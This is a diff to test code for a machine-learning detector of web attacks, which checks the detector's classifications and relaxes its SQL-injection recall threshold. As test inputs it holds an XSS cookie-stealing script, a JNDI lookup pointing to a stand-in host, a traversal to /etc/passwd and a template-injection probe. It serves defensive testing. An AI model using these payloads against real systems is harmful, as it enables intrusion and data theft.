@@ -43,9 +43,9 @@ def test_tracked_gated_and_registered(trained):
     m = run.data.metrics
     # recall per attack class and the benign false-positive rate, with its bound, at the
     # threshold chosen for a 0.1 % budget on validation rows
-    for cls in ("sqli", "xss", "path-traversal", "cmdi"):
+    for cls in ("sqli", "xss", "path-traversal", "cmdi", "ssti", "jndi", "crlf"):
         assert f"holdout_recall_{cls}" in m
-    assert m["holdout_recall_sqli"] > 0.98 and m["holdout_benign_fpr"] < 0.005
+    assert m["holdout_recall_sqli"] > 0.9 and m["holdout_benign_fpr"] < 0.005
     assert m["holdout_benign_fpr"] <= m["holdout_benign_fpr_upper95"]
     arts = {a.path for a in c.list_artifacts(r.run_id, "findings")}
     assert {
@@ -94,9 +94,13 @@ def test_scan_command_on_raw_requests(trained, tmp_path):
             "body": {"name": "O'Brien", "text": "<script>alert(document.cookie)</script>"},
         },
         {"url": 7},
+        {"url": "/v1/items", "headers": {"User-Agent": "${jndi:ldap://evil.example/a}"}},
     ]
     inp = tmp_path / "requests.jsonl"
-    inp.write_text("\n".join(json.dumps(x) for x in rows) + "\n../../etc/passwd\n")
+    inp.write_text(
+        "\n".join(json.dumps(x) for x in rows)
+        + "\n../../etc/passwd\n{{7*7}}\n2026-11-02T10:00:00Z\n"
+    )
     out = tmp_path / "verdicts.jsonl"
     res = CliRunner().invoke(
         app,
@@ -105,11 +109,15 @@ def test_scan_command_on_raw_requests(trained, tmp_path):
     )
     assert res.exit_code == 0, res.output
     got = [json.loads(line) for line in out.read_text().splitlines()]
-    assert [g["row"] for g in got] == [1, 2, 3, 4, 5]
+    assert [g["row"] for g in got] == [1, 2, 3, 4, 5, 6, 7, 8]
     assert got[0]["label"] == "benign" and got[1]["label"] == "sqli"
     assert got[2]["label"] == "xss" and got[2]["value"].startswith("<script>")
     assert "url" in got[3]["error"]
-    assert got[4]["kind"] == "value" and got[4]["label"] == "path-traversal"
+    assert got[4]["label"] == "jndi" and got[4]["context"] == "user-agent"
+    assert got[5]["kind"] == "value" and got[5]["label"] == "path-traversal"
+    # a bare value that starts with a brace is scanned, not refused as bad JSON
+    assert got[6]["kind"] == "value" and got[6]["label"] == "ssti"
+    assert got[7]["label"] == "benign"
     res = CliRunner().invoke(
         app,
         ["scan", "--input", str(tmp_path / "missing.jsonl")],
